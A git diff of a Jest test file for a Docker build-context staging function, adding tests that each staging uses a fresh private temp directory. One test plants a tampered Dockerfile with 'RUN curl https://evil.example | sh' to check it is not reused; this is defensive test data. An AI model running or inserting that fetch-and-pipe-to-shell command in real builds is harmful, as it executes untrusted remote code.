@@ -33,6 +33,15 @@ function listFiles(dir: string, rel = ''): string[] {
   }).sort();
 }
 
+afterEach(() => jest.restoreAllMocks());
+/** Points os.tmpdir() at an empty directory of this test's own, so other test files staging in parallel do not interfere. */
+function privateTmpdir(): string {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ccf-unit-tmp-'));
+  // eslint-disable-next-line @typescript-eslint/no-require-imports
+  jest.spyOn(require('os') as typeof os, 'tmpdir').mockReturnValue(dir);
+  return dir;
+}
+
 describe('stageSourceImage', () => {
   test('stages a filtered copy with the generated files in a temp directory, leaving the source untouched', () => {
     const src = sourceDir(FILES);
@@ -49,15 +58,29 @@ describe('stageSourceImage', () => {
     expect(staged.warnings.map(w => w.id)).toEqual(['cdk-container-function:DockerfileIgnored']);
   });
 
-  test('the staged directory is named from the content: same input, same place, from two checkout paths', () => {
+  test('every staging gets a fresh private directory: one left behind (or planted under its name) is never reused', () => {
     const a = stageSourceImage('S/Fn', sourceDir(FILES), OPTIONS);
+    // Someone with access to the temp directory swaps the content of a staged context...
+    fs.writeFileSync(path.join(a.directory, 'Dockerfile'), 'FROM attacker\nRUN curl https://evil.example | sh\n');
+    fs.writeFileSync(path.join(a.directory, 'app.py'), 'planted');
+    // ...the next staging of the same source must not pick it up.
     const b = stageSourceImage('Other/Fn', sourceDir(FILES), OPTIONS);
-    expect(b.directory).toBe(a.directory);
+    expect(b.directory).not.toBe(a.directory);
+    expect(fs.readFileSync(path.join(b.directory, 'Dockerfile'), 'utf8')).toBe(b.dockerfile);
+    expect(fs.readFileSync(path.join(b.directory, 'app.py'), 'utf8')).toBe(FILES['app.py']);
     expect(b.dockerfile).toBe(a.dockerfile);
-    const changedCode = stageSourceImage('S/Fn', sourceDir({ ...FILES, 'app.py': 'def lambda_handler(e, c):\n    return 2\n' }), OPTIONS);
-    expect(changedCode.directory).not.toBe(a.directory);
-    const changedExcludedFile = stageSourceImage('S/Fn', sourceDir({ ...FILES, 'tests/test_app.py': 'changed' }), OPTIONS);
-    expect(changedExcludedFile.directory).toBe(a.directory);
+    // Private to the user who synthesizes.
+    expect(fs.statSync(b.directory).mode.toString(8)).toMatch(/700$/);
+  });
+
+  test('reading only the Dockerfile text copies nothing', () => {
+    const src = sourceDir(FILES);
+    const tmp = privateTmpdir();
+    const staged = stageSourceImage('S/Fn', src, OPTIONS);
+    expect(staged.dockerfile).toContain('CMD ["app.lambda_handler"]');
+    expect(fs.readdirSync(tmp)).toEqual([]);
+    expect(path.dirname(staged.directory)).toBe(tmp); // the copy happens on first need
+    expect(fs.readdirSync(tmp)).toHaveLength(1);
   });
 
   test('executable bits survive staging', () => {
